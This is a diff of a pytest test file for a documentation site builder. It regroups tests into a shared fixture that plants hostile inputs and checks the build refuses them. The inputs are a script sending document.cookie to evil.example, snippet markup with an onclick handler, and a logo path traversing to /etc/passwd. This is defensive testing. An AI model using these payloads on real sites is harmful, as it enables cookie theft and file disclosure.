@@ -39,18 +39,100 @@ def _problems(project: Path, site: Path) -> tuple[list, list]:
     return checked, errors(built.problems)
 
 
-@pytest.mark.build
-def test_pages_named_like_files_are_each_named_and_left_out(tmp_path):
-    project = copy_project(tmp_path / "project")
+# ---- Cases that share one project: each problem is named at a file of its own case (a page named
+# like a file, a script in docs/, the appended snippet, clinic.yml's logo), so one check and one
+# build name them all (a run names every problem), and
+# test_the_shared_cases_are_every_problem_of_their_run shows nothing else is named: no case adds
+# a problem another case would be blamed for, and none hides one. A case that stops the engine, or
+# makes a settings or people file unreadable, still gets a project of its own (below).
+
+EVIL = "location.href = 'https://evil.example/?c=' + document.cookie;\n"
+SCRIPTS = ["assets/a11y.js", "assets/extra.JS", "attack/module.mjs", "assets/javascripts/bundle.cjs"]
+SNIPPET = "docs/.snippets/abbreviations.md"
+SNIPPET_MARKUP = '\n<img src="https://evil.example/x.png" alt="x">\n\n<b onclick="alert(1)">z</b>\n'
+
+
+@pytest.fixture(scope="module")
+def shared(tmp_path_factory) -> dict:
+    """One copy with the cases above, its check's and its build's errors; then the same copy with
+    every case taken out again, built ("fixed": the run, and the site it published)."""
+    root = tmp_path_factory.mktemp("shared")
+    project = copy_project(root / "project")
     for name in NAMED_LIKE_FILES:
         (project / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
         (project / "docs" / name).write_text(PAGE, encoding="utf-8")
-    checked, built = _problems(project, tmp_path / "site")
-    assert [str(problem) for problem in checked] == [str(problem) for problem in built]
+    for name in SCRIPTS:
+        (project / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
+        (project / "docs" / name).write_text(EVIL, encoding="utf-8")
+    snippet = project / SNIPPET
+    snippet_text = snippet.read_text(encoding="utf-8")
+    snippet.write_text(snippet_text + SNIPPET_MARKUP, encoding="utf-8")
+    clinic = project / "clinic.yml"
+    clinic_text = clinic.read_text(encoding="utf-8")
+    assert "logo: assets/logo.svg" in clinic_text
+    clinic.write_text(clinic_text.replace("logo: assets/logo.svg", "logo: ../../../../etc/passwd", 1), encoding="utf-8")
+    checked, built = _problems(project, root / "site")
+    # Every case taken out: what the failed build staged must not reach the next build's site.
+    for name in NAMED_LIKE_FILES + SCRIPTS:
+        (project / "docs" / name).unlink()
+    (project / "docs/sitemap.xml").rmdir()
+    snippet.write_text(snippet_text, encoding="utf-8")
+    clinic.write_text(clinic_text, encoding="utf-8")
+    fixed = build_in_process(project / "mkdocs.yml", root / "fixed-site", spelling=False, cards=False)
+    return {"project": project, "checked": checked, "built": built, "snippet_lines": len(snippet_text.splitlines()),
+            "fixed": fixed, "fixed_site": root / "fixed-site"}
+
+
+@pytest.mark.build
+def test_the_shared_cases_are_every_problem_of_their_run(shared):
+    """The check and the build name the same errors, in the same order, and they are the cases'
+    own: the pages named like files, the scripts, the snippet's two lines and the logo, nothing else."""
+    checked = shared["checked"]
+    assert [str(problem) for problem in checked] == [str(problem) for problem in shared["built"]]
+    cases = {f"docs/{name}" for name in NAMED_LIKE_FILES + SCRIPTS} | {SNIPPET, "clinic.yml"}
+    assert {problem.path for problem in checked} == cases, checked
+    assert len(checked) == len(NAMED_LIKE_FILES) + len(SCRIPTS) + 2 + 1, checked
+
+
+@pytest.mark.build
+def test_pages_named_like_files_are_each_named_and_left_out(shared):
+    checked = shared["checked"]
     named = {problem.path for problem in checked if "would look like a file's" in problem.what}
     assert named == {f"docs/{name}" for name in NAMED_LIKE_FILES}, checked
     assert not [problem for problem in checked if "stopped" in problem.what], checked
 
+
+@pytest.mark.build
+def test_no_script_is_published_from_docs_the_sites_own_come_from_the_theme(shared):
+    """Staff edit docs/; a script there would run on every page that loads it (a changed
+    assets/a11y.js, say). Scripts are the theme's (overrides/assets/, developers only): any file a
+    browser runs as script, in docs/ by any name and case, is named and not published."""
+    checked = shared["checked"]
+    assert {problem.path for problem in checked if "is a script" in problem.what} == {f"docs/{n}" for n in SCRIPTS}
+    # Without them, the site's own scripts are the theme's files, as written.
+    site, run = shared["fixed_site"], shared["fixed"]
+    assert not isinstance(run, ProblemsFound), run
+    for script in (shared["project"] / "overrides/assets").glob("*.js"):
+        assert (site / "assets" / script.name).read_bytes() == script.read_bytes()
+    assert not [file for file in site.rglob("*") if file.is_file() and b"evil.example" in file.read_bytes()]
+
+
+@pytest.mark.build
+def test_what_an_appended_snippet_brings_is_named_once_at_the_snippets_line(shared):
+    """docs/.snippets/abbreviations.md is appended to every page: markup refused in it is one
+    problem at its own line, not one per page at line 1."""
+    lines = shared["snippet_lines"]
+    assert [(problem.path, problem.line) for problem in shared["checked"] if problem.path == SNIPPET] == [
+        (SNIPPET, lines + 2), (SNIPPET, lines + 4)], shared["checked"]
+
+
+@pytest.mark.build
+def test_a_refused_logo_is_one_problem_and_no_page_links_it(shared):
+    [problem] = [problem for problem in shared["checked"] if problem.path == "clinic.yml"]
+    assert (problem.path, problem.field) == ("clinic.yml", "logo"), shared["checked"]
+
+
+# ---- Cases with a project of their own.
 
 @pytest.mark.build
 def test_a_folder_named_like_the_builds_own_file_is_one_problem_and_nothing_is_published(tmp_path):
@@ -88,59 +170,6 @@ def test_markdown_nested_too_deeply_is_named_at_its_page_with_a_fix(tmp_path):
     assert [str(problem) for problem in checked] == [str(problem) for problem in built]
     assert any(problem.path == "docs/deep.md" and "nests lists" in problem.what and "flatten" in problem.fix
                for problem in checked), checked
-
-
-@pytest.mark.build
-def test_no_script_is_published_from_docs_the_sites_own_come_from_the_theme(tmp_path):
-    """Staff edit docs/; a script there would run on every page that loads it (a changed
-    assets/a11y.js, say). Scripts are the theme's (overrides/assets/, developers only): any file a
-    browser runs as script, in docs/ by any name and case, is named and not published."""
-    project = copy_project(tmp_path / "project")
-    evil = "location.href = 'https://evil.example/?c=' + document.cookie;\n"
-    names = ["assets/a11y.js", "assets/extra.JS", "attack/module.mjs", "assets/javascripts/bundle.cjs"]
-    for name in names:
-        (project / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
-        (project / "docs" / name).write_text(evil, encoding="utf-8")
-    checked, built = _problems(project, tmp_path / "site")
-    assert [str(problem) for problem in checked] == [str(problem) for problem in built]
-    assert {problem.path for problem in checked if "is a script" in problem.what} == {f"docs/{n}" for n in names}
-    site = tmp_path / "fixed-site"   # without them, the site's own scripts are the theme's files, as written
-    for name in names:
-        (project / "docs" / name).unlink()
-    run = build_in_process(project / "mkdocs.yml", site, spelling=False, cards=False)
-    assert not isinstance(run, ProblemsFound), run
-    for script in (project / "overrides/assets").glob("*.js"):
-        assert (site / "assets" / script.name).read_bytes() == script.read_bytes()
-    assert not [file for file in site.rglob("*") if file.is_file() and b"evil.example" in file.read_bytes()]
-
-
-@pytest.mark.build
-def test_what_an_appended_snippet_brings_is_named_once_at_the_snippets_line(tmp_path):
-    """docs/.snippets/abbreviations.md is appended to every page: markup refused in it is one
-    problem at its own line, not one per page at line 1."""
-    project = copy_project(tmp_path / "project")
-    snippet = project / "docs/.snippets/abbreviations.md"
-    text = snippet.read_text(encoding="utf-8")
-    snippet.write_text(text + '\n<img src="https://evil.example/x.png" alt="x">\n\n<b onclick="alert(1)">z</b>\n',
-                       encoding="utf-8")
-    checked, built = _problems(project, tmp_path / "site")
-    assert [str(problem) for problem in checked] == [str(problem) for problem in built]
-    lines = len(text.splitlines())
-    assert [(problem.path, problem.line) for problem in checked] == [
-        ("docs/.snippets/abbreviations.md", lines + 2), ("docs/.snippets/abbreviations.md", lines + 4)], checked
-
-
-@pytest.mark.build
-def test_a_refused_logo_is_one_problem_and_no_page_links_it(tmp_path):
-    project = copy_project(tmp_path / "project")
-    clinic = project / "clinic.yml"
-    text = clinic.read_text(encoding="utf-8")
-    assert "logo: assets/logo.svg" in text
-    clinic.write_text(text.replace("logo: assets/logo.svg", "logo: ../../../../etc/passwd", 1), encoding="utf-8")
-    checked, built = _problems(project, tmp_path / "site")
-    assert [str(problem) for problem in checked] == [str(problem) for problem in built]
-    [problem] = checked
-    assert (problem.path, problem.field) == ("clinic.yml", "logo"), checked
 
 
 @pytest.mark.parametrize("data, accepted", [
